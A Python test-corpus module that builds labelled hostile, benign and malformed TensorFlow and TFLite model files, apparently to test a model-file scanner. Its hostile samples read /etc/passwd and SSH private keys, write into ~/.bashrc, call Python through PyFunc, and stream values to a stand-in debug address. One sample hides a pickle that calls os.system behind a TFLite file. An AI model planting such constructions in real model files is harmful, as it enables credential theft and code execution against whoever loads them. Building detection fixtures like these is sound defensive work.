"""TensorFlow SavedModel, frozen graphs and TFLite: operations that touch the machine, and ordinary graphs."""

import json
import struct

from tests.corpus.archive_writer import zip_file
from tests.corpus.flatbuffer_writer import Number, Numbers, Table
from tests.corpus.flatbuffer_writer import file as flatbuffer
from tests.corpus.keras_samples import LAMBDA
from tests.corpus.labelled import benign, hostile, malformed
from tests.corpus.protobuf_writer import Value, message
from tests.corpus.sample import Sample

FAMILY = "tensorflow"
FLOAT, STRING = 1, 7


def attribute(key: str, value: bytes) -> tuple[int, Value]:
    """One attribute of a node; `value` is an AttrValue."""
    return 5, message((1, key), (2, value))


def node(op: str, *inputs: str, name: str = "", attributes: tuple[tuple[int, Value], ...] = ()) -> bytes:
    """A NodeDef."""
    return message((1, name or op.lower()), (2, op), *((3, one) for one in inputs), *attributes)


def constant(name: str, text: str) -> bytes:
    """A Const of one string."""
    tensor = message((1, STRING), (2, b""), (8, text))
    return node("Const", name=name, attributes=(attribute("value", message((8, tensor))),))


def function(name: str, *nodes: bytes) -> bytes:
    """A FunctionDef of the library."""
    return message((1, message((1, name))), *((3, one) for one in nodes), (4, message((1, "out"), (2, "x:0"))))


def graph(*nodes: bytes, functions: tuple[bytes, ...] = ()) -> bytes:
    """A GraphDef."""
    library = [(2, message(*((1, one) for one in functions)))] if functions else []
    return message(*((1, one) for one in nodes), *library, (4, message((1, 1882))))


def saved(graph_def: bytes, *more: tuple[int, Value]) -> bytes:
    """A SavedModel of one graph for serving."""
    info = message((4, "serve"), (5, "2.15.0"))
    return message((1, 1), (2, message((1, info), (2, graph_def), *more)))


X = node("Placeholder", name="x", attributes=(attribute("dtype", message((6, FLOAT))),))
BODY = (node("MatMul", "x", "w", name="y"), node("Relu", "y"))
HOME = constant("path", "/home/user/.bashrc")


def evil(name: str, content: bytes, note: str) -> Sample:
    """A hostile SavedModel."""
    return hostile("tf-" + name, FAMILY, {"saved_model.pb": content}, note)


PBTXT = """saved_model_schema_version: 1
meta_graphs {
  meta_info_def { tags: "serve" }
  graph_def {
    node { name: "path" op: "Const"
      attr { key: "value" value { tensor { dtype: DT_STRING string_val: "/home/user/.bashrc" } } } }
    node { name: "text" op: "Const"
      attr { key: "value" value { tensor { dtype: DT_STRING string_val: "echo inert" } } } }
    node { name: "write" op: "WriteFile" input: "path" input: "text" }
  }
}
"""
CODE_LAYER = json.dumps(LAMBDA)
METADATA_PB = message((1, message((2, 1), (3, "root.layer-1"), (4, "_tf_keras_layer"), (5, CODE_LAYER))))
HOSTILE = (
    evil(
        "read-file",
        saved(graph(constant("path", "/etc/passwd"), node("ReadFile", "path"))),
        "Serving returns /etc/passwd as an output.",
    ),
    evil(
        "write-file",
        saved(graph(HOME, constant("text", "echo inert"), node("WriteFile", "path", "text"))),
        "Calling the model writes a line into the user's start-up file.",
    ),
    evil(
        "write-in-function",
        saved(
            graph(
                X,
                *BODY,
                node("StatefulPartitionedCall", "x"),
                functions=(
                    function("__inference_serve_7", HOME, node("Identity", "x")),
                    function("__inference_call_9", node("WriteFile", "path", "x")),
                ),
            )
        ),
        "The graph is plain; a function of its library writes the file.",
    ),
    evil("py-func", saved(graph(X, node("PyFunc", "x"))), "Calls Python by a token in the process that serves."),
    evil(
        "eager-py-func",
        saved(graph(X, functions=(function("f", node("EagerPyFunc", "x")),))),
        "The eager form, in a function.",
    ),
    evil(
        "list-keys",
        saved(graph(constant("p", "/home/*/.ssh/id_*"), node("MatchingFiles", "p"), node("ReadFile", "matchingfiles"))),
        "Finds private keys by pattern and reads them.",
    ),
    evil(
        "print-to-file",
        saved(
            graph(
                X,
                node(
                    "PrintV2", "x", attributes=(attribute("output_stream", message((2, "file:///home/user/.bashrc"))),)
                ),
            )
        ),
        "Prints into the user's start-up file: an output stream may be a file.",
    ),
    evil(
        "debug-url",
        saved(
            graph(
                X,
                node(
                    "DebugIdentityV2",
                    "x",
                    attributes=(attribute("debug_urls", message((1, message((2, "grpc://203.0.113.40:6064"))))),),
                ),
            )
        ),
        "Sends every value that passes to a stranger's debugger.",
    ),
    evil(
        "table-from-passwd",
        saved(
            graph(
                constant("f", "/etc/passwd"),
                node("HashTableV2"),
                node("InitializeTableFromTextFileV2", "hashtablev2", "f"),
            )
        ),
        "A lookup table is filled from /etc/passwd.",
    ),
    evil(
        "asset-path",
        saved(graph(X, *BODY), (6, message((1, message((1, "asset:0"))), (2, "../../../../etc/shadow")))),
        "An asset that lies outside the directory of assets.",
    ),
    hostile(
        "tf-text-form", FAMILY, {"saved_model.pbtxt": PBTXT}, "WriteFile in the text form, which TensorFlow loads too."
    ),
    hostile(
        "tf-frozen-graph",
        FAMILY,
        {"frozen_inference_graph.pb": graph(constant("path", "/etc/passwd"), node("ReadFile", "path"))},
        "A bare GraphDef that reads /etc/passwd.",
    ),
    hostile(
        "tf-keras-metadata-lambda",
        FAMILY,
        {"saved_model.pb": saved(graph(X, *BODY)), "keras_metadata.pb": METADATA_PB},
        "The graph is plain; Keras rebuilds a Lambda from the metadata beside it.",
    ),
)


def lite(*operators: Table, names: tuple[str, ...] = ("input", "output")) -> bytes:
    """A TFLite model that uses these operator codes once each."""
    tensors = [Table({0: Numbers("i", [1, 4]), 2: Number("I", 1), 3: name}) for name in names]
    steps = [Table({0: Number("I", at), 1: Numbers("i", [0]), 2: Numbers("i", [1])}) for at in range(len(operators))]
    subgraph = Table({0: tensors, 1: Numbers("i", [0]), 2: Numbers("i", [1]), 3: steps, 4: "main"})
    weights = Table({0: struct.pack("<4f", 1, 2, 3, 4)})
    return flatbuffer(
        Table({0: Number("I", 3), 1: list(operators), 2: [subgraph], 3: "converted", 4: [Table({}), weights]}), b"TFL3"
    )


def builtin(code: int) -> Table:
    """A built-in operator."""
    return Table({0: Number("b", code), 2: Number("i", 1), 3: Number("i", code)})


def custom(name: str) -> Table:
    """A custom operator by name."""
    return Table({0: Number("b", 32), 1: name, 2: Number("i", 1), 3: Number("i", 32)})


PLAIN_LITE = lite(builtin(9), builtin(25))
LITE = (
    hostile(
        "tflite-flex-write",
        FAMILY,
        {"model.tflite": lite(builtin(9), custom("FlexWriteFile"))},
        "Runs TensorFlow's WriteFile through the Flex delegate.",
    ),
    hostile("tflite-flex-read", FAMILY, {"model.tflite": lite(custom("FlexReadFile"))}, "Reads files through Flex."),
    hostile(
        "tflite-flex-pyfunc", FAMILY, {"model.tflite": lite(custom("FlexEagerPyFunc"))}, "Calls Python through Flex."
    ),
    hostile(
        "tflite-zip-tail-pickle",
        FAMILY,
        {
            "model.tflite": PLAIN_LITE
            + zip_file({"archive/data.pkl": b"cposix\nsystem\n(S'echo inert'\ntR.", "archive/version": b"3\n"})
        },
        "A torch archive with a call behind the graph, under the name of a safe format.",
    ),
    malformed("tflite-cut", FAMILY, {"model.tflite": PLAIN_LITE[: len(PLAIN_LITE) // 2]}, "Cut off in the middle."),
    malformed(
        "tflite-root-offset",
        FAMILY,
        {"model.tflite": struct.pack("<I", 2**31) + PLAIN_LITE[4:]},
        "The root table lies behind the end.",
    ),
    malformed("tflite-noise", FAMILY, {"model.tflite": PLAIN_LITE[:8] + b"\xff" * 200}, "All offsets point nowhere."),
    benign("tflite-plain", FAMILY, {"model.tflite": PLAIN_LITE}, "Two built-in operators."),
    benign(
        "tflite-detection",
        FAMILY,
        {"detect.tflite": lite(builtin(3), custom("TFLite_Detection_PostProcess"))},
        "The custom operator of the object detection models that TensorFlow ships.",
    ),
    benign(
        "tflite-flex-ordinary",
        FAMILY,
        {"asr.tflite": lite(builtin(9), custom("FlexErf"), custom("FlexTensorListReserve"))},
        "Converted with Select TF ops: arithmetic and lists through Flex.",
    ),
    benign(
        "tflite-metadata",
        FAMILY,
        {"classify.tflite": PLAIN_LITE + zip_file({"labels.txt": b"cat\ndog\n"}, packed=False)},
        "Labels packed behind the model, as the metadata writer does.",
    ),
)


def good(name: str, files: dict[str, bytes], note: str) -> Sample:
    """An ordinary SavedModel."""
    return benign("tf-" + name, FAMILY, files, note)


CHECKPOINT = (
    constant("prefix", "model"),
    node("ShardedFilename", "prefix"),
    node("SaveV2", "shardedfilename"),
    node("MergeV2Checkpoints", "savev2"),
    node("RestoreV2", "prefix"),
    node("StaticRegexFullMatch", "prefix"),
)
PLAIN = saved(
    graph(
        X,
        *BODY,
        *CHECKPOINT,
        node("VarHandleOp"),
        functions=(function("__inference_call_11", node("ReadVariableOp", "w"), *BODY),),
    )
)
LAYER = json.dumps({"class_name": "Dense", "name": "dense", "config": {"units": 2, "activation": "relu"}})
BENIGN = (
    good(
        "saved-model",
        {
            "saved_model.pb": PLAIN,
            "fingerprint.pb": message((1, 2**60), (2, 77)),
            "variables/variables.index": b"\0\0\x02model/w" + bytes(64),
            "variables/variables.data-00000-of-00001": bytes(512),
        },
        "A small network with the operations that save and restore its variables.",
    ),
    good(
        "with-vocabulary",
        {
            "saved_model.pb": saved(
                graph(
                    X,
                    constant("f", "vocab.txt"),
                    node("HashTableV2"),
                    node("InitializeTableFromTextFileV2", "hashtablev2", "f"),
                    node("RegexReplace", "x"),
                ),
                (6, message((1, message((1, "f:0"))), (2, "vocab.txt"))),
            ),
            "assets/vocab.txt": b"[PAD]\n[UNK]\nthe\n",
        },
        "A table filled from the vocabulary among its assets.",
    ),
    good(
        "image-bytes",
        {
            "saved_model.pb": saved(
                graph(
                    X,
                    node("ParseExampleV2", "x"),
                    node("DecodeJpeg", "x"),
                    node("ResizeBilinear", "decodejpeg"),
                    node("While", "x"),
                    node("NonMaxSuppressionV5", "x"),
                )
            )
        },
        "Decodes pictures and selects boxes.",
    ),
    good(
        "keras-metadata",
        {
            "saved_model.pb": PLAIN,
            "keras_metadata.pb": message((1, message((2, 1), (3, "root.layer-0"), (4, "_tf_keras_layer"), (5, LAYER)))),
        },
        "With plain layers as metadata.",
    ),
    good("frozen", {"frozen_inference_graph.pb": graph(X, *BODY, node("Softmax", "relu"))}, "A frozen graph."),
)
BROKEN = (
    malformed("tf-cut", FAMILY, {"saved_model.pb": PLAIN[: len(PLAIN) * 2 // 3]}, "Two thirds of a SavedModel."),
    malformed(
        "tf-length-lie",
        FAMILY,
        {"saved_model.pb": PLAIN[:2] + b"\x12\xff\xff\xff\xff\x0f" + PLAIN[5:]},
        "A meta graph of 4 GB in a file of some hundred bytes.",
    ),
)
SAMPLES = (*HOSTILE, *LITE, *BENIGN, *BROKEN)
